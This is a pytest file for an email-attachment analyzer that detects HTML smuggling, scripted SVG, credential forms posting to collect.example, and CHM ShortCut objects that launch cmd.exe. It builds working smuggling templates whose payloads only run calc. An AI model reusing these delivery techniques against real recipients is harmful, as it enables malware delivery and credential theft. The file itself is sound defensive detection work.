"""HTML smuggling, scripted SVG and credential forms in attached markup (harmless samples built here)."""

from __future__ import annotations

import base64
import hashlib

from coinguard.analyzers.markup import Markup
from coinguard.findings import Finding, Item, Role
from coinguard.sniff import sniff

from helpers import codes, make_context, run_handler, zip_bytes

SCRIPT = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"
PAYLOAD = zip_bytes({"invoice.js": SCRIPT, "readme.bin": hashlib.sha512(b"seed").digest() * 16})


def smuggler(payload: bytes) -> bytes:
    b64 = base64.b64encode(payload).decode()
    return f"""<!doctype html><html><body><p>Loading your document...</p><script>
var d = atob("{b64}"); var bytes = new Uint8Array(d.length);
for (var i = 0; i < d.length; i++) {{ bytes[i] = d.charCodeAt(i); }}
var blob = new Blob([bytes], {{type: "application/octet-stream"}});
var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "statement.zip";
document.body.appendChild(a); a.click();
</script></body></html>""".encode()


def test_blob_smuggling_is_conclusive_and_the_payload_is_analysed() -> None:
    findings, children = run_handler(Markup(), smuggler(PAYLOAD), "statement.html")
    assert codes(findings) == {"markup.smuggling"}
    assert len(children) == 1 and children[0].data == PAYLOAD and children[0].type == "zip"
    assert children[0].role == Role.EMBEDDED  # a file: the filetype and unpackers treat it like an attachment


def test_data_link_with_download_attribute() -> None:
    b64 = base64.b64encode(PAYLOAD).decode()
    html = f'<html><body><a id="x" href="data:application/zip;base64,{b64}" download="a.zip">Open</a></body></html>'
    findings, children = run_handler(Markup(), html.encode(), "a.html")
    assert codes(findings) == {"markup.smuggling"} and children[0].data == PAYLOAD


def test_blob_download_without_payload_is_strong_only() -> None:
    html = b"<html><script>fetch(u).then(r=>r.blob()).then(b=>{var a=document.createElement('a');" \
           b"a.href=URL.createObjectURL(b);a.download='x.iso';a.click();});</script></html>"
    findings, children = run_handler(Markup(), html, "a.html")
    assert codes(findings) == {"markup.smuggling_code"} and not children


def test_ordinary_html_attachments_pass() -> None:
    newsletter = b"<html><head><script>function toggle(){document.body.classList.toggle('x')}</script></head>" \
                 b"<body><h1>Conference programme</h1><a href='https://example.org/agenda'>agenda</a></body></html>"
    assert run_handler(Markup(), newsletter, "programme.html")[0] == []
    # a big inline picture is not smuggling without a Blob and a download trigger
    pic = base64.b64encode(b"\x89PNG" + b"\x00" * 3000).decode()
    assert run_handler(Markup(), f'<html><img src="data:image/png;base64,{pic}"></html>'.encode(), "p.html")[0] == []


def test_scripted_svg_and_plain_svg() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://x.example/"</script></svg>'
    assert codes(run_handler(Markup(), svg, "invoice.svg")[0]) == {"markup.svg_script"}
    plain = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
    assert run_handler(Markup(), plain, "logo.svg")[0] == []


def test_credential_form_page() -> None:
    page = b"<html><body><form action='https://collect.example/p.php' method='post'><input name='u'>" \
           b"<input type='password' name='p'><button>Sign in</button></form></body></html>"
    findings, _ = run_handler(Markup(), page, "login.html")
    assert codes(findings) == {"markup.credential_form"} and "collect.example" in findings[0].detail


def test_bodies_are_not_attachments() -> None:
    data = smuggler(PAYLOAD)
    item = Item(path="body", name="", data=data, type=sniff(data), role=Role.BODY)
    assert not Markup().applies_to(item)
    out = [f for f in Markup().handle(Item(path="a", name="a.html", data=data, type="html"), make_context())
           if isinstance(f, Finding)]
    assert out


def test_html_help_shortcut_command() -> None:
    """The CHM technique: an HHCtrl object whose ShortCut command starts a program (a CHM member or an HTML file)."""
    page = b"""<html><body><OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
<PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap::shortcut">
<PARAM name="Item1" value=",cmd.exe,/c calc.exe"><PARAM name="Item2" value="273,1,1"></OBJECT>
<script>x.Click();</script></body></html>"""
    item = Item(path="help.chm/topic.htm", name="topic.htm", data=page, type=sniff(page), role=Role.MEMBER)
    assert Markup().applies_to(item)
    found = [f for f in Markup().handle(item, make_context()) if isinstance(f, Finding)]
    assert {f.code for f in found} == {"markup.hh_shortcut"} and "cmd.exe" in found[0].detail
    # the same control used for a table of contents (no ShortCut) is ordinary help
    toc = b'<html><OBJECT classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><PARAM name="Command" ' \
          b'value="Related Topics"></OBJECT></html>'
    assert run_handler(Markup(), toc, "toc.html")[0] == []
